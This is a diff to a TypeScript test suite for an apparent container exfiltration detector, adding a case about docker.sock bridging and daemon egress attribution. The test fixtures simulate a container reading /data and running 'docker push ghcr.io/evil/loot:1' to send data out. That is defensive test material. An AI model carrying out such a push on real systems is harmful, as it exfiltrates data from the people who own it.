@@ -264,11 +264,11 @@ describe('containers that exit, and several containers on one node', () => {
 });
 
 describe('docker.sock bridging', () => {
-  function dockerPush(dockerdAfterMs: number) {
+  function dockerPush(dockerdAfterMs: number, readFiles = 70) {
     const s = new Scenario();
     const c = s.container();
     const sh = s.init(c);
-    s.readMany(sh, '/data', 70, MiB, 100);
+    if (readFiles > 0) s.readMany(sh, '/data', readFiles, MiB, 100);
     s.exec(c, '/usr/bin/docker', 'push ghcr.io/evil/loot:1', { parent: sh });
     const dockerd = s.hostProc('/usr/bin/dockerd', '-H fd://');
     s.wait(dockerdAfterMs).connect(dockerd, '140.82.121.33', 443);
@@ -283,6 +283,14 @@ describe('docker.sock bridging', () => {
     ]);
     expect(alerts[0]!.egressBytes).toBe(80 * MiB);
     expect(alerts[0]!.evidence.find((e) => e.kind === 'bridge-egress')).toMatchObject({ binary: '/usr/bin/dockerd' });
+  });
+
+  it("shows the daemon's upload but never judges by it: it is linked by time, and may be another pod's push", () => {
+    const { alerts } = run(dockerPush(2000, 0).events);
+    expect(brief(alerts)).toEqual([
+      { rule: 'push-without-reads', severity: 'low', tool: 'docker', destination: 'ghcr.io' },
+    ]);
+    expect(alerts[0]!.egressBytes).toBe(80 * MiB);
   });
 
   it('does not link daemon egress outside the span', () => {
